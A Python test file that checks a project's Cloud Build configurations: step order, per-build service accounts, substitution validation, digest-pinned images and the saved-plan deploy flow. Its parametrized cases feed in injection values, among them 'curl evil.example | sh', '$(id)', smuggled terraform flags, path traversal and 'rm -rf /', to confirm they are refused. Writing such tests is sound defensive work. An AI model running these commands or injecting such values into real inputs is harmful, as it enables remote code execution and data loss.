"""The Cloud Build configs, checked offline: structure, waitFor graph, stage order, substitutions,
files, and the split by trust (README "Security").

Four builds, each as its own service account (infra/build_pipeline.tf):
- cloudbuild.yaml, the tests: the only build that runs repository code or dev dependencies, as an
  account with no project role but writing its logs;
- cloudbuild-image.yaml: docker build + push (writer on the functions repository only);
- cloudbuild-plan.yaml: terraform plan -out=tfplan, printed and saved to the state bucket (the
  deployer, no approval: a plan changes nothing);
- cloudbuild-deploy.yaml: terraform apply of that saved plan, a curl smoke check (the deployer;
  its trigger waits for an approval).

The checks are functions so the tests can also show each one catching a broken config.
"""

from __future__ import annotations

import copy
import http.server
import os
import re
import shutil
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.infra.parsed_terraform import INFRA_DIR, expression, locals_of, resources

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[2]
TESTS, IMAGE, PLAN, DEPLOY = (
    "cloudbuild.yaml",
    "cloudbuild-image.yaml",
    "cloudbuild-plan.yaml",
    "cloudbuild-deploy.yaml",
)
# Each build's stages in the order they must run (step ids), and the account it runs as.
STAGES = {
    TESTS: ("lint", "typecheck", "unit-tests", "emulator-tests"),
    IMAGE: ("validate-substitutions", "build", "push"),
    PLAN: ("validate-substitutions", "image-digest", "terraform-plan", "save-plan"),
    DEPLOY: ("validate-substitutions", "fetch-plan", "terraform-apply", "smoke-test"),
}
ACCOUNT = {TESTS: "test", IMAGE: "image", PLAN: "deployer", DEPLOY: "deployer"}
SIDE_BY_SIDE = {("lint", "typecheck")}
BUILT_IN = {"PROJECT_ID", "SHORT_SHA", "COMMIT_SHA", "BUILD_ID", "LOCATION", "REPO_NAME", "BRANCH_NAME", "TAG_NAME"}
VALIDATION = "validate-substitutions"
_VARIABLE = re.compile(r"\$\{?(_[A-Z0-9_]+|[A-Z][A-Z0-9_]*)\}?")
_PATHLIKE = re.compile(r"^[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]*)*$")
_FILE_SUFFIXES = (".txt", ".py", ".toml", ".yaml", ".tf", ".tfvars", ".hcl", ".json", ".cfg")
_DIGEST = re.compile(r"^[a-z0-9./-]+(?::[A-Za-z0-9_.-]+)?@sha256:[0-9a-f]{64}$")
# What running repository code or the dev dependencies looks like in a step.
_RUNS_REPOSITORY_CODE = re.compile(
    r"pip install|npm (?:ci|install|run|test)|npx |pytest|ruff|mypy|lint-imports|python3? -m (?!venv\b)"
    r"|\.venv|node_modules|(?<![.\w])\./|\b(?:bash|sh) [^-]"
)


def load(name: str) -> dict[str, Any]:
    document = yaml.safe_load((REPO / name).read_text())
    assert isinstance(document, dict)
    return document


def structure_errors(document: dict[str, Any]) -> list[str]:
    errors = []
    steps = document.get("steps")
    if not isinstance(steps, list) or not steps:
        return ["no steps"]
    ids = [step.get("id") for step in steps]
    if len(set(ids)) != len(ids) or None in ids:
        errors.append(f"step ids must be present and unique: {ids}")
    for step in steps:
        if not isinstance(step.get("name"), str):
            errors.append(f"step {step.get('id')} has no image name")
        if "waitFor" not in step:
            errors.append(f"step {step.get('id')} has no waitFor")
        if not isinstance(step.get("args", []), list):
            errors.append(f"step {step.get('id')}: args must be a list")
    return errors


def dangling_wait_for(document: dict[str, Any]) -> list[str]:
    ids = {step["id"] for step in document["steps"]}
    return [
        f"{step['id']} waits for unknown {wanted}"
        for step in document["steps"]
        for wanted in step.get("waitFor", [])
        if wanted != "-" and wanted not in ids
    ]


def ancestors(document: dict[str, Any], step_id: str) -> set[str]:
    parents = {step["id"]: [w for w in step.get("waitFor", []) if w != "-"] for step in document["steps"]}
    seen: set[str] = set()
    pending = list(parents.get(step_id, []))
    while pending:
        current = pending.pop()
        if current not in seen:
            seen.add(current)
            pending.extend(parents.get(current, []))
    return seen


def order_errors(document: dict[str, Any], stages: tuple[str, ...]) -> list[str]:
    errors = []
    ids = {step["id"] for step in document["steps"]}
    for stage in stages:
        if stage not in ids:
            errors.append(f"missing stage {stage}")
    for index, stage in enumerate(stages):
        if stage not in ids:
            continue
        before = ancestors(document, stage)
        if stage in before:
            errors.append(f"{stage} waits for itself (cycle)")
        for earlier in stages[:index]:
            if (earlier, stage) in SIDE_BY_SIDE:
                continue
            if earlier not in before:
                errors.append(f"{stage} does not wait (directly or not) for {earlier}")
    return errors


def script(step: dict[str, Any]) -> str:
    """What the step runs: its entrypoint and args (not its env)."""
    return "\n".join([str(step.get("entrypoint", ""))] + [str(a) for a in step.get("args", [])])


def step_text(step: dict[str, Any]) -> str:
    parts = [str(step.get("name", "")), str(step.get("dir", "")), script(step)]
    return "\n".join(parts + [str(e) for e in step.get("env", [])])


def undeclared_substitutions(document: dict[str, Any]) -> list[str]:
    declared = set(document.get("substitutions", {}))
    texts = [step_text(step) for step in document["steps"]] + [
        str(v) for v in document.get("substitutions", {}).values()
    ]
    texts.append(str(document.get("serviceAccount", "")))
    used = {name for text in texts for name in _VARIABLE.findall(text.replace("$$", ""))}
    return sorted(name for name in used if name not in declared and name not in BUILT_IN)


def substitutions_in_scripts(document: dict[str, Any]) -> list[str]:
    """Steps whose entrypoint, args, name or dir hold a substitution: a value pasted into a script
    (`$$` is Cloud Build's escape for a literal `$`, the script's own variables)."""
    found = []
    for step in document["steps"]:
        for where, text in (
            ("script", script(step)),
            ("name", str(step.get("name"))),
            ("dir", str(step.get("dir", ""))),
        ):
            names = _VARIABLE.findall(text.replace("$$", ""))
            if names:
                found.append(f"{step['id']} {where}: {sorted(set(names))}")
    return found


def env_substitutions(step: dict[str, Any]) -> dict[str, str]:
    """The step's env variables set from a substitution: NAME -> the substitution."""
    result = {}
    for entry in step.get("env", []):
        name, _, value = str(entry).partition("=")
        found = re.fullmatch(r"\$\{(_?[A-Z][A-Z0-9_]*)\}", value)
        if found:
            result[name] = found.group(1)
        elif "$" in value:
            result[name] = value  # anything else mixing a substitution in is reported below
    return result


def validation_errors(document: dict[str, Any]) -> list[str]:
    """A build that takes substitutions checks every one first: the validation step is the first,
    waits for nothing, every other step waits for it, and every env variable set from a
    substitution anywhere is set the same way in the validation step and checked there."""
    steps = document["steps"]
    used = {name: value for step in steps for name, value in env_substitutions(step).items()}
    if not document.get("substitutions"):
        return (
            []
            if not any(_VARIABLE.findall(step_text(s).replace("$$", "")) for s in steps)
            else ["no substitutions block"]
        )
    errors = []
    validation = next((step for step in steps if step["id"] == VALIDATION), {"id": None})
    if steps[0] is not validation or validation.get("waitFor") != ["-"]:
        errors.append(f"the first step is {steps[0]['id']}, not {VALIDATION} waiting for nothing")
    for step in steps:
        if step is not validation and VALIDATION not in ancestors(document, step["id"]):
            errors.append(f"{step['id']} does not wait for {VALIDATION}")
    checked = env_substitutions(validation)
    body = script(validation)
    for name, value in used.items():
        if not re.fullmatch(r"_?[A-Z][A-Z0-9_]*", value):
            errors.append(f"env {name} mixes a substitution into other text: {value}")
        elif checked.get(name) != value:
            errors.append(f"{name} (from {value}) is not checked by {VALIDATION}")
        elif not re.search(rf"^valid {re.escape(value)} \"\$\${name}\" '\^.*\$\$'$", body, re.M):
            errors.append(f"{VALIDATION} has no anchored pattern check for {name}")
    return errors


def repository_code_outside_the_test_build(documents: dict[str, dict[str, Any]]) -> list[str]:
    return [
        f"{name}: {step['id']}"
        for name, document in documents.items()
        if name != TESTS
        for step in document["steps"]
        if _RUNS_REPOSITORY_CODE.search(script(step))
    ]


def unpinned_images(document: dict[str, Any]) -> list[str]:
    return [f"{step['id']}: {step['name']}" for step in document["steps"] if not _DIGEST.match(str(step["name"]))]


def missing_files(document: dict[str, Any]) -> list[str]:
    missing = []
    for step in document["steps"]:
        if step["id"] == VALIDATION:
            continue  # patterns, not paths
        base = REPO / str(step.get("dir", ""))
        if not base.is_dir():
            missing.append(f"{step['id']}: dir {step.get('dir')}")
        text = script(step)
        for module in re.findall(r"python3? -m ([A-Za-z_][\w.]*)", text) + re.findall(
            r"bin/python -m ([A-Za-z_][\w.]*)", text
        ):
            if module in {"venv", "pytest", "pip"}:
                continue
            candidate = REPO / module.replace(".", "/")
            if not ((candidate / "__main__.py").is_file() or candidate.with_suffix(".py").is_file()):
                missing.append(f"{step['id']}: module {module}")
        for token in re.split(r"[\s\"'=\[\],()]+", text):
            if not _PATHLIKE.match(token) or token.startswith((".venv", "-")) or len(token) < 3:
                continue
            if token in {"api_url.txt", "image_ref.txt", "tfplan", "tfplan.txt", "/dev/null"}:
                continue  # written by an earlier step
            if ("/" in token and not token.startswith(("gcr.io", "hashicorp"))) or token.endswith(_FILE_SUFFIXES):
                if token.count(".") > 2:
                    continue
                if not (base / token).exists() and not (REPO / token).exists():
                    missing.append(f"{step['id']}: {token}")
    return missing


def every_config() -> dict[str, dict[str, Any]]:
    return {name: load(name) for name in STAGES}


def test_the_three_builds_are_all_the_cloud_build_configs() -> None:
    assert sorted(p.name for p in REPO.glob("cloudbuild*.yaml")) == sorted(STAGES)


@pytest.mark.parametrize("name", sorted(STAGES))
def test_structure_wait_for_and_stage_order(name: str) -> None:
    document = load(name)
    assert structure_errors(document) == []
    assert dangling_wait_for(document) == []
    assert order_errors(document, STAGES[name]) == []


@pytest.mark.parametrize("name", sorted(STAGES))
def test_each_build_names_its_own_service_account_and_logs_as_one_allows(name: str) -> None:
    document = load(name)
    account_id = locals_of(INFRA_DIR)["build_accounts"][ACCOUNT[name]]["account_id"]
    assert (
        document["serviceAccount"]
        == f"projects/${{PROJECT_ID}}/serviceAccounts/{account_id}@${{PROJECT_ID}}.iam.gserviceaccount.com"
    )
    assert (
        document["options"]["logging"] == "CLOUD_LOGGING_ONLY"
    )  # the default logging refuses a user-specified account
    triggers = expression(locals_of(INFRA_DIR)["build_triggers"])
    assert f'config = "{name}", account = "{ACCOUNT[name]}"' in triggers


def test_only_the_test_build_runs_repository_code_or_dev_dependencies() -> None:
    documents = every_config()
    assert repository_code_outside_the_test_build(documents) == []
    tests = [step["id"] for step in documents[TESTS]["steps"] if _RUNS_REPOSITORY_CODE.search(script(step))]
    assert set(tests) >= {"install", "lint", "typecheck", "unit-tests", "auth-emulator-install", "emulator-tests"}
    # The image build runs the Dockerfile; docker build keeps its RUN steps off the Cloud Build
    # network (where the build's credentials are served) unless told --network=cloudbuild.
    build = next(step for step in documents[IMAGE]["steps"] if step["id"] == "build")
    assert "docker build" in script(build) and "--network" not in script(build)


def _grantees(body: dict[str, Any]) -> list[str]:
    """Which build accounts (test, image, deployer) an IAM resource grants to."""
    member = expression(body.get("member", ""))
    named = re.findall(r'google_service_account\.build\["(\w+)"\]', member)
    if "google_service_account.build[each.key]" in member:
        named += re.findall(r'"(\w+)"', expression(body.get("for_each", "")))
    return named


def test_the_test_account_has_no_role_but_writing_logs_and_the_image_account_only_pushes() -> None:
    grants: dict[str, set[tuple[str, str]]] = {"test": set(), "image": set(), "deployer": set()}
    for path in INFRA_DIR.glob("*.tf"):
        for kind in re.findall(r'resource "(google_\w+_iam_\w+)"', path.read_text()):
            for body in resources(INFRA_DIR, kind).values():
                for account in _grantees(body):
                    grants[account].add((kind, str(body["role"])))
    assert grants["test"] == {("google_project_iam_member", "roles/logging.logWriter")}
    assert grants["image"] == {
        ("google_project_iam_member", "roles/logging.logWriter"),
        ("google_artifact_registry_repository_iam_member", "roles/artifactregistry.writer"),
    }
    assert not {role for _, role in grants["deployer"]} & {"roles/owner", "roles/editor"}


def test_the_deployer_may_grant_only_the_roles_this_configuration_grants() -> None:
    grant = resources(INFRA_DIR, "google_project_iam_member")["deployer_grants_listed_roles"]
    assert grant["role"] == "roles/resourcemanager.projectIamAdmin"
    assert (
        "modifiedGrantsByRole" in grant["condition"][0]["expression"]
        and ".hasOnly(" in grant["condition"][0]["expression"]
    )
    listed = set(re.findall(r"roles/[\w.]+", str(locals_of(INFRA_DIR)["roles_the_deployer_grants"])))
    its_own = {"deployer", "deployer_grants_listed_roles"}
    granted = {
        str(body["role"])
        for name, body in resources(INFRA_DIR, "google_project_iam_member").items()
        if name not in its_own
    }
    assert granted == listed  # every project role infra/ grants to others, and no more
    assert not listed & {
        "roles/resourcemanager.projectIamAdmin",
        "roles/owner",
        "roles/editor",
        "roles/iam.serviceAccountAdmin",
    }


def test_the_deploy_trigger_waits_for_a_manual_approval() -> None:
    triggers = expression(locals_of(INFRA_DIR)["build_triggers"])
    approvals = dict(
        re.findall(r'config = "(cloudbuild[\w-]*\.yaml)", account = "\w+", approval = (true|false)', triggers)
    )
    assert approvals == {TESTS: "false", IMAGE: "false", PLAN: "false", DEPLOY: "true"}
    trigger = resources(INFRA_DIR, "google_cloudbuild_trigger")["build"]
    assert expression(trigger["approval_config"][0]["approval_required"]) == "each.value.approval"
    assert expression(trigger["service_account"]) == "google_service_account.build[each.value.account].id"


@pytest.mark.parametrize("name", sorted(STAGES))
def test_substitutions_reach_scripts_only_through_env_after_validation(name: str) -> None:
    document = load(name)
    assert undeclared_substitutions(document) == []
    assert substitutions_in_scripts(document) == []
    assert validation_errors(document) == []


def _run_validation(document: dict[str, Any], **values: str) -> subprocess.CompletedProcess[str]:
    """The validation step's script, run here with bash as Cloud Build would run it."""
    step = document["steps"][0]
    body = step["args"][-1].replace("$$", "$")
    env = {"PATH": os.environ["PATH"], **values}
    return subprocess.run(["bash", "-ceu", body], env=env, capture_output=True, text=True, check=False, timeout=30)


_GOOD = {
    "PROJECT_ID": "my-project-1",
    "REGION": "europe-west1",
    "REPOSITORY": "wild-workouts",
    "IMAGE_TAG": "abc1234",
    "IMAGE": "europe-west1-docker.pkg.dev/my-project-1/wild-workouts/functions:abc1234",
    "DEPLOYMENT_MODE": "per_function",
    "TF_STATE_BUCKET": "my-project-1-tfstate",
    "TF_STATE_PREFIX": "wild-workouts",
    "PLAN_ID": "abc1234",
    "FIREBASE_WEB_API_KEY": "",
    "FIREBASE_AUTH_DOMAIN": "",
    "GITHUB_OWNER": "",
    "GITHUB_REPO": "",
    "DEPLOY_APPROVERS": "user:reviewer@example.com,group:ops@example.com",
}


@pytest.mark.parametrize(
    ("variable", "bad"),
    [
        ("REGION", "europe-west1; curl evil.example | sh"),
        ("REGION", "europe-west1\nx"),
        ("IMAGE_TAG", ""),  # SHORT_SHA is empty in a build by hand without _IMAGE_TAG
        ("IMAGE", "europe-west1-docker.pkg.dev/my-project-1/wild-workouts/functions:abc $(id)"),
        ("DEPLOYMENT_MODE", "per_function -var=image=evil"),
        ("TF_STATE_BUCKET", "bucket -backend-config=x"),
        ("TF_STATE_PREFIX", "../other"),
        ("DEPLOY_APPROVERS", 'user:a@example.com","allUsers'),
        ("PLAN_ID", "../../other-project/plans/x"),
    ],
)
def test_the_validation_step_refuses_a_bad_value_and_passes_good_ones(variable: str, bad: str) -> None:
    checked_somewhere = False
    for name in (IMAGE, PLAN, DEPLOY):
        document = load(name)
        assert _run_validation(document, **_GOOD).returncode == 0, name
        if variable in env_substitutions(document["steps"][0]):
            checked_somewhere = True
            refused = _run_validation(document, **{**_GOOD, variable: bad})
            assert refused.returncode != 0, name
            assert "is not valid" in refused.stderr
    assert checked_somewhere


def test_the_saved_plan_is_what_apply_runs_and_the_providers_come_from_the_lock() -> None:
    plan = {step["id"]: script(step) for step in load(PLAN)["steps"]}
    deploy = {step["id"]: script(step) for step in load(DEPLOY)["steps"]}
    for text in (plan["terraform-plan"], deploy["terraform-apply"]):
        assert "terraform init -input=false -lockfile=readonly " in text
    assert re.search(r"^terraform plan -input=false -out=tfplan ", plan["terraform-plan"], re.M)
    assert "terraform show -no-color tfplan > tfplan.txt" in plan["terraform-plan"]  # the plan, in the log and saved
    saved = 'gcloud storage cp tfplan tfplan.txt "gs://$$TF_STATE_BUCKET/plans/$$PLAN_ID/"'
    assert saved in plan["save-plan"]
    assert 'gcloud storage cp "gs://$$TF_STATE_BUCKET/plans/$$PLAN_ID/tfplan" tfplan' in deploy["fetch-plan"]
    assert [
        line for text in deploy.values() for line in text.splitlines() if "terraform " in line and "init" not in line
    ] == [
        "terraform apply -input=false tfplan",
        "terraform output -raw api_url > ../api_url.txt",
    ]  # the deploy never plans by itself: it applies the saved plan
    assert not any("terraform apply" in text for text in plan.values())
    assert not any("-auto-approve" in text or "-target" in text for text in [*plan.values(), *deploy.values()])
    assert "image_ref.txt" in plan["image-digest"] and '-var="image=$$(cat ../image_ref.txt)"' in plan["terraform-plan"]
    for name in (PLAN, DEPLOY):  # the same bucket and plan id, by default the commit's
        substitutions = load(name)["substitutions"]
        assert (substitutions["_TF_STATE_BUCKET"], substitutions["_PLAN_ID"]) == (
            "${PROJECT_ID}-tfstate",
            "${SHORT_SHA}",
        )


def test_the_image_built_is_the_one_pushed() -> None:
    steps = {step["id"]: step for step in load(IMAGE)["steps"]}
    assert 'docker build --file Dockerfile --tag "$$IMAGE" .' in script(steps["build"])
    assert 'docker push "$$IMAGE"' in script(steps["push"])
    assert env_substitutions(steps["build"]) == env_substitutions(steps["push"]) == {"IMAGE": "_IMAGE"}
    plan = {step["id"]: step for step in load(PLAN)["steps"]}
    assert env_substitutions(plan["image-digest"]) == {"IMAGE": "_IMAGE"}
    assert load(IMAGE)["substitutions"]["_IMAGE"] == load(PLAN)["substitutions"]["_IMAGE"]


@pytest.mark.parametrize("name", sorted(STAGES))
def test_every_build_image_is_pinned_by_digest_and_the_same_image_by_the_same_digest(name: str) -> None:
    assert unpinned_images(load(name)) == []
    digests: dict[str, set[str]] = {}
    for document in every_config().values():
        for step in document["steps"]:
            image, _, digest = str(step["name"]).partition("@")
            digests.setdefault(image, set()).add(digest)
    assert all(len(found) == 1 for found in digests.values()), digests


def test_no_secret_is_handed_to_a_build() -> None:
    for document in every_config().values():
        keys = set(document) | {key for step in document["steps"] for key in step}
        assert not {"secretEnv", "availableSecrets"} & keys
        public_by_design = {"_FIREBASE_WEB_API_KEY"}  # a Firebase web API key ships in every web page: not a secret
        for key in set(document.get("substitutions", {})) - public_by_design:
            assert not re.search(r"SECRET|PASSWORD|TOKEN|KEY|CREDENTIAL", key), key


@pytest.mark.parametrize("name", sorted(STAGES))
def test_every_file_or_module_a_step_uses_exists(name: str) -> None:
    assert missing_files(load(name)) == []


def test_the_checks_catch_a_broken_config() -> None:
    broken = copy.deepcopy(load(PLAN))
    steps = {step["id"]: step for step in broken["steps"]}
    steps["save-plan"]["waitFor"] = ["terraform-plann"]  # typo: dangling, the save no longer after the plan
    steps["terraform-plan"]["args"][-1] += "\nterraform plan -var=region=${_REGION} -var=x=${_IMAGE_TAGG}"
    steps["image-digest"]["env"] = ["IMAGE=${_IMAGE}", "MODE=${_DEPLOYMENT_MODE}"]
    steps["image-digest"]["waitFor"] = ["-"]  # no longer after the validation
    broken["steps"].insert(0, broken["steps"].pop(1))
    steps["save-plan"]["args"] = ["-ceu", "python -m ops.missing_module && pip install -r requirements-dev.txt"]
    steps["save-plan"]["name"] = "hashicorp/terraform:1.11"

    assert dangling_wait_for(broken) == ["save-plan waits for unknown terraform-plann"]
    assert "save-plan does not wait (directly or not) for terraform-plan" in order_errors(broken, STAGES[PLAN])
    assert undeclared_substitutions(broken) == ["_IMAGE_TAGG"]
    assert substitutions_in_scripts(broken) == ["terraform-plan script: ['_IMAGE_TAGG', '_REGION']"]
    assert set(validation_errors(broken)) == {
        "the first step is image-digest, not validate-substitutions waiting for nothing",
        "image-digest does not wait for validate-substitutions",
        "terraform-plan does not wait for validate-substitutions",
        "save-plan does not wait for validate-substitutions",
        "MODE (from _DEPLOYMENT_MODE) is not checked by validate-substitutions",
    }
    assert repository_code_outside_the_test_build({PLAN: broken}) == [f"{PLAN}: save-plan"]
    assert unpinned_images(broken) == ["save-plan: hashicorp/terraform:1.11"]
    assert missing_files(broken) == ["save-plan: module ops.missing_module"]


def _run_with_fake_terraform(step: dict[str, Any], workspace: Path, **values: str) -> list[list[str]]:
    """Run a deploy step's script with `sh` as Cloud Build would (its env from `values`), with a
    `terraform` on PATH that records each call's arguments: what the real one would be given."""
    bin_dir = workspace / "bin"
    bin_dir.mkdir(parents=True)
    calls = workspace / "calls"
    fake = bin_dir / "terraform"
    fake.write_text(
        f"#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done >> '{calls}'\nprintf '\\n' >> '{calls}'\n"
    )
    fake.chmod(0o755)
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    for entry in step.get("env", []):
        name, _, value = str(entry).partition("=")
        substitution = re.fullmatch(r"\$\{(_?[A-Z][A-Z0-9_]*)\}", value)
        env[name] = values[name] if substitution else value
    body = step["args"][-1].replace("$$", "$")
    directory = workspace / str(step.get("dir", "."))
    directory.mkdir(exist_ok=True)
    result = subprocess.run(
        ["sh", "-ceu", body], cwd=directory, env=env, capture_output=True, text=True, check=False, timeout=30
    )
    assert result.returncode == 0, result.stderr
    return [line.split("\0")[:-1] for line in calls.read_text().splitlines()]


def test_the_plan_and_apply_steps_hand_each_value_to_terraform_as_one_argument(tmp_path: Path) -> None:
    steps = {step["id"]: step for step in load(PLAN)["steps"] + load(DEPLOY)["steps"]}
    image_ref = "europe-west1-docker.pkg.dev/my-project-1/wild-workouts/functions@sha256:" + "a" * 64
    (tmp_path / "image_ref.txt").write_text(image_ref)
    values = {
        **_GOOD,
        "GITHUB_OWNER": "an-owner",
        "GITHUB_REPO": "wild-workouts",
        "FIREBASE_AUTH_DOMAIN": "x.firebaseapp.com",
    }
    init, plan, show = _run_with_fake_terraform(steps["terraform-plan"], tmp_path, **values)
    assert init == [
        "init",
        "-input=false",
        "-lockfile=readonly",
        "-backend-config=bucket=my-project-1-tfstate",
        "-backend-config=prefix=wild-workouts",
    ]
    assert plan[:3] == ["plan", "-input=false", "-out=tfplan"]
    assert set(plan[3:]) == {
        "-var=project_id=my-project-1",
        "-var=region=europe-west1",
        "-var=artifact_repository=wild-workouts",
        f"-var=image={image_ref}",
        "-var=deployment_mode=per_function",
        "-var=firebase_web_api_key=",
        "-var=firebase_auth_domain=x.firebaseapp.com",
        '-var=build_repository={owner="an-owner",name="wild-workouts"}',
        '-var=deploy_approvers=["user:reviewer@example.com","group:ops@example.com"]',
    }
    assert show == ["show", "-no-color", "tfplan"]
    without_triggers = tmp_path / "without-triggers"
    without_triggers.mkdir()
    (without_triggers / "image_ref.txt").write_text(image_ref)
    _, plan, _ = _run_with_fake_terraform(
        steps["terraform-plan"], without_triggers, **{**_GOOD, "DEPLOY_APPROVERS": ""}
    )
    assert "-var=build_repository=null" in plan and "-var=deploy_approvers=[]" in plan
    init_again, apply, output = _run_with_fake_terraform(steps["terraform-apply"], tmp_path / "apply", **_GOOD)
    assert init_again == init
    assert apply == ["apply", "-input=false", "tfplan"]
    assert output == ["output", "-raw", "api_url"]


@pytest.mark.parametrize(("answer", "ok"), [("sha256:" + "b" * 64, True), ("", False), ("sha256:; rm -rf /", False)])
def test_the_image_digest_step_deploys_the_pushed_image_by_digest(tmp_path: Path, answer: str, ok: bool) -> None:
    step = next(step for step in load(PLAN)["steps"] if step["id"] == "image-digest")
    (tmp_path / "bin").mkdir()
    fake = tmp_path / "bin" / "gcloud"
    fake.write_text(f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> '{tmp_path / 'call'}'\nprintf '%s\\n' '{answer}'\n")
    fake.chmod(0o755)
    env = {
        "PATH": f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "IMAGE": _GOOD["IMAGE"],
        "IMAGE_WAIT_ATTEMPTS": "2",
        "IMAGE_WAIT_SECONDS": "0",
    }
    assert {"IMAGE_WAIT_ATTEMPTS=80", "IMAGE_WAIT_SECONDS=15"} <= set(step["env"])  # 20 minutes for the image build
    body = step["args"][-1].replace("$$", "$")
    result = subprocess.run(["bash", "-ceu", body], cwd=tmp_path, env=env, capture_output=True, text=True, check=False)
    assert (tmp_path / "call").read_text().startswith(f"artifacts docker images describe {_GOOD['IMAGE']} ")
    calls = (tmp_path / "call").read_text().splitlines()
    assert len(calls) == (1 if ok else 2)  # asked again until the attempts run out
    if ok:
        assert result.returncode == 0, result.stderr
        path = _GOOD["IMAGE"].rsplit(":", 1)[0]
        assert (tmp_path / "image_ref.txt").read_text() == f"{path}@{answer}"
    else:
        assert result.returncode != 0 and "no image" in result.stderr
        assert not (tmp_path / "image_ref.txt").exists()


@pytest.mark.skipif(shutil.which("curl") is None, reason="the deploy build's smoke step runs curl")
def test_the_smoke_step_passes_against_an_api_that_answers_as_deployed(tmp_path: Path) -> None:
    """The curl checks of the deploy build against a loopback server answering like the API:
    200 for /openapi.json, 401 for /trainings without a token."""

    class FakeApi(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response({"/openapi.json": 200, "/trainings": 401}.get(self.path, 404))
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FakeApi)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        (tmp_path / "api_url.txt").write_text(f"http://127.0.0.1:{server.server_address[1]}")
        step = next(step for step in load(DEPLOY)["steps"] if step["id"] == "smoke-test")
        body = step["args"][-1].replace("$$", "$")
        result = subprocess.run(
            ["bash", "-ceu", body], cwd=tmp_path, capture_output=True, text=True, check=False, timeout=60
        )
    finally:
        server.shutdown()
        server.server_close()
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("smoke: http://127.0.0.1:")
